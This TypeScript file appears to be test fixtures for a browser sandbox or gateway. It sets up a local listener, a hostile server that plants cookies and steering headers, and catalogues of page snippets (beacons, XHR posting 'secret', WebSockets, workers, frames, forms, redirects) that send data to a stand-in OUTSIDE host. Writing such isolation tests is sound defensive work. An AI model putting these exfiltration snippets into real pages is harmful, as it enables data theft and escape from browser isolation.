import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A server of which a page should never hear: it notes each connection and each request. */
export interface Outside {
  readonly host: string;
  readonly heard: string[];
  close(): void;
}

/** Listens for whatever leaves past the gateway; browsers find `*.localhost` on this machine. */
export async function startOutside(): Promise<Outside> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('outside');
  });
  server.on('connection', () => heard.push('connection'));
  server.on('upgrade', ({ url }, socket) => {
    heard.push(`upgrade ${url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const host = `outside.localhost:${(server.address() as AddressInfo).port}`;
  return { host, heard, close: () => void server.close() };
}

/** A resource whose server and pages are hostile; `requests` are those that it got. */
export interface HostileResource {
  readonly url: string;
  readonly requests: string[];
  close(): void;
}

/** Starts it: pages without a policy of their own, and answers that steer browsers to `outside`. */
export async function startHostileResource(outside: string): Promise<HostileResource> {
  const requests: string[] = [];
  const server = createServer((request: IncomingMessage, response) => {
    requests.push(`${request.method} ${request.url}`);
    const { pathname } = new URL(request.url!, 'http://evil.corp');
    const steering = STEERING[pathname]?.(outside) ?? {};
    const status = 'location' in steering ? 302 : 200;
    const type = pathname.endsWith('.js') ? 'text/javascript' : 'text/html';
    response.writeHead(status, { 'content-type': type, ...steering });
    response.end(type === 'text/html' ? `<!doctype html><title>Evil</title><h1>At ${pathname}</h1>` : 'self.evil = 1');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const close = (): void => {
    server.closeAllConnections();
    server.close();
  };
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, close };
}

const STEERING: Readonly<Record<string, (outside: string) => Record<string, string | string[]>>> = {
  '/cookies': () => ({
    'set-cookie': ['wide=evil; Domain=corp; Path=/', 'aimed=evil; Domain=office.corp; Path=/', 'plain=evil; Path=/'],
  }),
  '/steered': (outside) => ({
    link: `<http://${outside}/link-preload>; rel=preload; as=script, <http://${outside}>; rel=preconnect`,
    'reporting-endpoints': `default="http://${outside}/reports"`,
    'report-to': `{"group":"default","max_age":600,"endpoints":[{"url":"http://${outside}/reports"}]}`,
    nel: '{"report_to":"default","max_age":600}',
    'content-security-policy-report-only': `default-src 'none'; report-uri http://${outside}/csp`,
    'content-security-policy': `img-src 'none'; report-uri http://${outside}/csp`,
    'speculation-rules': `"http://${outside}/rules"`,
    'clear-site-data': '"*"',
  }),
  '/refreshed': (outside) => ({ refresh: `0; url=http://${outside}/refresh` }),
  '/to-office': () => ({ location: 'http://office.corp/list?page=9' }),
  '/to-outside': (outside) => ({ location: `http://${outside}/redirect` }),
};

/** What a page does to send something to `outside`, by name; each runs in the page. */
export const WAYS_OUT: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    [
      'img src',
      'script src',
      'iframe src',
      'embed src',
      'object data',
      'video src',
      'audio src',
      'input type="image" src',
    ].map((start) => [start, `add('<${start}="http://OUTSIDE/${start.split(' ')[0]}">')`]),
  ),
  ...Object.fromEntries(
    [
      'stylesheet',
      'prefetch',
      'preload" as="image',
      'modulepreload',
      'prerender',
      'preconnect',
      'dns-prefetch',
      'icon',
      'manifest',
      'search',
    ].map((rel) => [`link ${rel}`, `add('<link rel="${rel}" href="http://OUTSIDE/${rel.slice(0, 9)}">')`]),
  ),
  'style import': `add('<style>@import "http://OUTSIDE/import"; body{background:url(http://OUTSIDE/background)}</style>')`,
  font: `add('<style>@font-face{font-family:x;src:url(http://OUTSIDE/font)} h1{font-family:x}</style>')`,
  'svg image': `add('<svg><image href="http://OUTSIDE/svg"/><use href="http://OUTSIDE/use#a"/></svg>')`,
  'image set': `add('<picture><source srcset="http://OUTSIDE/set 1x"><img srcset="http://OUTSIDE/srcset 1x"></picture>')`,
  fetch: `fetch('http://OUTSIDE/fetch').catch(() => 0); fetch('http://OUTSIDE/opaque', { mode: 'no-cors', keepalive: true }).catch(() => 0)`,
  request: `const x = new XMLHttpRequest(); x.open('POST', 'http://OUTSIDE/xhr'); x.send('secret')`,
  beacon: `navigator.sendBeacon('http://OUTSIDE/beacon', 'secret')`,
  events: `new EventSource('http://OUTSIDE/events')`,
  socket: `new WebSocket('ws://OUTSIDE/socket')`,
  'socket of an empty frame': `const f = add('<iframe></iframe>'); new f.contentWindow.WebSocket('ws://OUTSIDE/bare')`,
  'frame of its own text': `add('<iframe srcdoc="<img src=http://OUTSIDE/srcdoc><script>new WebSocket(\`ws://OUTSIDE/srcdoc\`)</script>"></iframe>')`,
  'closed frame': `add('<iframe sandbox="allow-scripts" srcdoc="<img src=http://OUTSIDE/closed><link rel=preconnect href=http://OUTSIDE>"></iframe>')`,
  'frame of a blob': `add('<iframe src="' + URL.createObjectURL(new Blob(['<img src=http://OUTSIDE/blob>'], { type: 'text/html' })) + '"></iframe>')`,
  'frame of data': `add('<iframe src="data:text/html,<img src=http://OUTSIDE/data>"></iframe>')`,
  worker: `new Worker(URL.createObjectURL(new Blob(["fetch('http://OUTSIDE/worker').catch(() => 0); importScripts('http://OUTSIDE/imported.js')"])))`,
  import: `${'import'}('http://OUTSIDE/import.js').catch(() => 0)`,
  ping: `const a = add('<a href="#here" ping="http://OUTSIDE/ping">x</a>'); a.click()`,
  rules: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://OUTSIDE/rules'] }], prerender: [{ source: 'list', urls: ['http://OUTSIDE/prerender'] }] }); document.head.append(s)`,
  base: `add('<base href="http://OUTSIDE/">'); add('<img src="base">')`,
  transport: `new (window.WebTransport ?? add('<iframe></iframe>').contentWindow.WebTransport ?? Object)('https://OUTSIDE/transport')`,
};

/** What a page does to take its frame, the window, or a new one to `outside`. */
export const WAYS_OF_MOVING: Readonly<Record<string, string>> = {
  form: `const f = add('<form method="post" action="http://OUTSIDE/form"><input name="a" value="secret"></form>'); HTMLFormElement.prototype.submit.call(f)`,
  refresh: `add('<meta http-equiv="refresh" content="0; url=http://OUTSIDE/meta">')`,
  window: `window.open('http://OUTSIDE/window'); document.defaultView.open.call(window, 'http://OUTSIDE/window')`,
  'own-window': `const f = add('<iframe></iframe>'); f.contentWindow.open('http://OUTSIDE/window2')`,
  top: `try { top.location = 'http://OUTSIDE/top' } catch {}; try { top.location.replace('http://OUTSIDE/top') } catch {}`,
  'link-to-top': `add('<a target="_top" href="http://OUTSIDE/top">x</a>').click()`,
  'form-to-top': `add('<form target="_top" action="http://OUTSIDE/top"></form>').submit()`,
  place: `location.href = 'http://OUTSIDE/place'`,
  'data-page': `location.href = 'data:text/html,<img src=http://OUTSIDE/data>'`,
};
